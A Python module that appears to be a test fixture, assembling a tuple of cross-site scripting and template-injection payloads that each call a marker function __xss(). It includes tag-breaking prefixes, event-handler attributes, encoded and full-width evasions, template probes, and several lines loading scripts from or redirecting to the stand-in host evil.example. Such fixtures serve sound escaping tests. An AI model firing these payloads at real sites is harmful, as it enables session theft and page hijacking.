"""Texts that try to leave their place in a page and run; each calls `__xss()`."""

from __future__ import annotations

_CALL = "__xss()"
_BREAKS = ("", '">', "'>", '" ', "' ", "</title>", "--></script>", "</time></dd>")
_ELEMENTS = (
    f"<script>{_CALL}</script>",
    f"<img src=x onerror={_CALL}>",
    f"<svg onload={_CALL}>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<body onload={_CALL}>",
    f"<input autofocus onfocus={_CALL}>",
    f"<details open ontoggle={_CALL}><summary>1</summary></details>",
    f"<video><source onerror={_CALL}></video>",
    f"<iframe srcdoc='<script>parent.{_CALL}</script>'></iframe>",
    f"<math><mtext></mtext><img src=x onerror={_CALL}></math>",
    f"<style onload={_CALL}></style>",
    "<script src=//evil.example/x.js></script>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><button>1</button></form>",
)
_ATTRIBUTES = tuple(
    f"{quote} {handler}={_CALL} {rest}"
    for quote in ('"', "'", "`", "")
    for handler, rest in (
        ("onmouseover", "x="),
        ("onfocus", "autofocus tabindex=0 x="),
        ("onanimationstart", "style=animation-name:x x="),
        ("onpointerrawupdate", "/"),
    )
)
_PLAIN = (
    "{{7*7}}",
    "{{ site.__class__.__mro__ }}",
    "{% for x in [].__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{% raw %}",
    "{#",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "&lt;script&gt;__xss()&lt;/script&gt;",
    "&#60;img src=x onerror=__xss()&#62;",
    "&amp;lt;b&amp;gt;",
    "&quot; onfocus=__xss() autofocus &quot;",
    "\\u003cscript\\u003e__xss()\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=__xss()\\x3e",
    "%3Cscript%3E__xss()%3C/script%3E",
    "javascript:__xss()",
    "data:text/html,<script>__xss()</script>",
    "vbscript:__xss()",
    "<!--",
    "-->",
    "<![CDATA[<script>__xss()</script>]]>",
    "]]>",
    "<?xml version='1.0'?>",
    "</textarea><script>__xss()</script>",
    "</style><script>__xss()</script>",
    "</noscript><script>__xss()</script>",
    "<noscript><p title='</noscript><img src=x onerror=__xss()>'></noscript>",
    "<scr<script>ipt>__xss()</scr</script>ipt>",
    "<<script>__xss();//<</script>",
    "<ｓｃｒｉｐｔ>__xss()</ｓｃｒｉｐｔ>",
    "＜script＞__xss()＜/script＞",
    "<a href=javascript:__xss()>1</a>",
    "<a href='java&#10;script:__xss()'>1</a>",
    '"><!--',
    "'-__xss()-'",
    '"-__xss()-"',
    "`-__xss()-`",
    "\\'-__xss()//",
    "+ADw-script+AD4-__xss()+ADw-/script+AD4-",
    "\u202e<img src=x onerror=__xss()>",
    "\u2028__xss()",
    "甲<img/src=x/onerror=__xss()>乙",
)
PAYLOADS = (
    *(f"{start}{element}" for element in _ELEMENTS for start in _BREAKS),
    *_ATTRIBUTES,
    *_PLAIN,
)
